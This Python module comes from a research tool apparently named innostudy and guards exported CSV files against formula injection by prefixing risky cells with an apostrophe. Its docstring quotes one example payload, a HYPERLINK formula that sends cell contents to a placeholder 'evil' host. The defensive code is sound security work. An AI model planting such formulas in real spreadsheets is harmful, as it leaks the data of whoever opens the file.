"""Spreadsheet cells that show text instead of running it (CSV injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
taken by Excel, LibreOffice and Google Sheets as a formula when a CSV file is opened, so
a respondent's answer ``=HYPERLINK("http://evil/?"&A1,"Click")`` would run on the
researcher's machine (OWASP, "CSV Injection"). Every CSV file innostudy writes passes
its cells through ``neutralise``: such text gets a leading apostrophe, which spreadsheets
read as "this cell is text" and do not show. Plain numbers (``-3``, ``+44``, ``1e-5``)
are left alone: they cannot run, and a number column must stay numeric.
``keep_formulas=True`` (``--keep-formulas`` in the CLI) writes text exactly as stored,
for a program rather than a spreadsheet.

Reading a CSV file back undoes it (``restore``), so export → import gives the same
answers. XLSX files never need the apostrophe: their text cells are written as strings,
never as formulas or links (``XLSX_OPTIONS`` for every xlsxwriter workbook).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# xlsxwriter: text is always a string cell (never a formula, never a hyperlink, which
# "external:" would turn into a link to a local file).
XLSX_OPTIONS: dict[str, Any] = {"strings_to_formulas": False, "strings_to_urls": False}


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    return text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)


def neutralise(text: str) -> str:
    """``text``, with an apostrophe in front if a spreadsheet would run it."""
    return "'" + text if is_formula_like(text) else text


def restore(text: str) -> str:
    """Undo ``neutralise`` (exactly: only an apostrophe it could have added goes)."""
    return text[1:] if text.startswith("'") and is_formula_like(text[1:]) else text


def safe_cells(row: Iterable[Any], *, keep_formulas: bool = False) -> list[Any]:
    """A row ready for a CSV writer: text cells neutralised unless ``keep_formulas``."""
    if keep_formulas:
        return list(row)
    return [neutralise(v) if isinstance(v, str) else v for v in row]


class SafeCsvWriter:
    """``csv.writer`` whose text cells are neutralised (unless ``keep_formulas``)."""

    def __init__(self, f: TextIO, *, keep_formulas: bool = False, **fmtparams: Any) -> None:
        self._writer = csv.writer(f, **fmtparams)
        self.keep_formulas = keep_formulas

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(safe_cells(row, keep_formulas=self.keep_formulas))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(f: TextIO, *, keep_formulas: bool = False, **fmtparams: Any) -> SafeCsvWriter:
    """The one way innostudy writes CSV rows."""
    return SafeCsvWriter(f, keep_formulas=keep_formulas, **fmtparams)
